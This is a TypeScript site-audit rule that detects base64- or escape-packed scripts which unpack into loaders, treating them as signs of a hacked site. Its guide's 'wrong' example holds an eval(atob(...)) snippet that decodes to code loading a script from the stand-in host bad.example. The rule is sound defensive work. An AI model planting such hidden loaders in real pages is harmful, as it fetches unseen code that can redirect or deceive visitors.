import { howMany } from "#engine/site-audit/rule-helpers/how-many.ts";
import { IF_HACKED, SPAM_POLICIES } from "#engine/site-audit/rule-helpers/if-hacked.ts";
import type { SiteRule } from "#engine/site-audit/rule.ts";

export const packedScript: SiteRule = {
  id: "packed-script",
  severity: "blocking",
  source: "google",
  sourceUrl: `${SPAM_POLICIES}#hacked-content`,
  weight: 10,
  fixedIn: "template",
  isOfOnePage: true,
  title: (pages) =>
    `${howMany(pages, "page has a script that is", "pages have a script that is")} packed to hide what it loads`,
  why: "The script unpacks itself into one that loads more from somewhere else. It looks like a hack: such loaders send visitors to spam or show false updates, and browsers warn of the site.",
  rule: "Scripts load what they load in plain sight.",
  fix: `${IF_HACKED} If a plugin or an advertising partner put the script there, ask its maker what it loads.`,
  doneWhen: "The page’s source does not have the packed script.",
  guide: {
    topic: "hacked",
    name: "Script packed to hide what it loads",
    finds:
      "Finds scripts packed as base64, character codes or escapes that unpack to code which loads another script, frame or address.",
    matters:
      "Sites with plugins that are out of date. One such script is enough for a red warning page in every visitor’s browser.",
    example: {
      kind: "html",
      wrong: `
        <script>
          eval(atob("dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk7cy5zcmM9Jy8vYmFkLmV4YW1wbGUvYS5qcyc7"));
        </script>
      `,
      right: '<script src="/shop.js" defer></script>',
    },
  },
  find(site) {
    return site.readPages.flatMap(({ url, facts }) =>
      (facts.hackSigns?.packedScripts ?? []).map(({ value, line }) => ({
        url,
        line,
        evidence: `the script unpacks to: ${value}`,
      })),
    );
  },
};
